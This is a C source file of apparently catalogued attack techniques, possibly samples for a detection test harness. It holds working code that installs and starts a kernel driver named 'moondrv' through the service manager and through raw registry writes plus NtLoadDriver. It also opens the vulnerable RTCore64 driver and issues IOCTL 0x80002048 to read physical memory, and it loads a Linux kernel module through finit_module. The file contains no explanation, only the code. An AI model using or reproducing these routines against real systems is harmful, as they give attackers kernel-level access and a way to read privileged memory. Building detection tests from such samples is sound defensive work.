/* technique service windows at=install libs=advapi32
   technique native windows at=load libs=ntdll,advapi32
   technique borrowed windows at=read_physical
   technique module linux at=insert */
#define _GNU_SOURCE
#include "common.h"
#ifdef T_service
APART static int install(const char *path) {
    SC_HANDLE manager = F(OpenSCManagerA)(NULL, NULL, SC_MANAGER_CREATE_SERVICE);
    SC_HANDLE service = F(CreateServiceA)(manager, "moondrv", "moondrv", SERVICE_ALL_ACCESS, SERVICE_KERNEL_DRIVER,
                                       SERVICE_DEMAND_START, SERVICE_ERROR_IGNORE, path, 0, 0, 0, 0, 0);
    return F(StartServiceA)(service, 0, NULL);
}
int main(int n, char **words) { return !install(words[n - 1]); }
#elif defined T_native
#include <winternl.h>
NTSTATUS NTAPI NtLoadDriver(PUNICODE_STRING);
APART static long load(void) {
    UNICODE_STRING name;
    HKEY key;
    DWORD type = 1;
    RegCreateKeyA(HKEY_LOCAL_MACHINE, "System\\CurrentControlSet\\Services\\moondrv", &key);
    RegSetValueExA(key, "Type", 0, REG_DWORD, (BYTE *)&type, 4);
    RegSetValueExA(key, "ImagePath", 0, REG_SZ, (BYTE *)"\\??\\C:\\moondrv.sys", 20);
    RtlInitUnicodeString(&name, L"\\Registry\\Machine\\System\\CurrentControlSet\\Services\\moondrv");
    return F(NtLoadDriver)(&name);
}
int main(void) { return load() != 0; }
#elif defined T_borrowed
static HANDLE driver;
APART static DWORD read_physical(DWORD64 at) {
    struct { BYTE a[8]; DWORD64 at; BYTE b[8]; DWORD size, value; BYTE c[16]; } ask = {.at = at, .size = 4};
    DWORD got;
    F(DeviceIoControl)(driver, 0x80002048, &ask, sizeof ask, &ask, sizeof ask, &got, NULL);
    return ask.value;
}
int main(void) {
    driver = F(CreateFileA)("\\\\.\\RTCore64", GENERIC_READ | GENERIC_WRITE, 0, NULL, OPEN_EXISTING, 0, NULL);
    printf("%lx\n", read_physical(0x1000));
    return 0;
}
#elif defined T_module
#include <fcntl.h>
#include <sys/syscall.h>
#include <unistd.h>
APART static long insert(const char *path) {
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    return syscall(SYS_finit_module, fd, "", 0);
}
int main(int n, char **words) { return insert(words[n - 1]) != 0; }
#endif
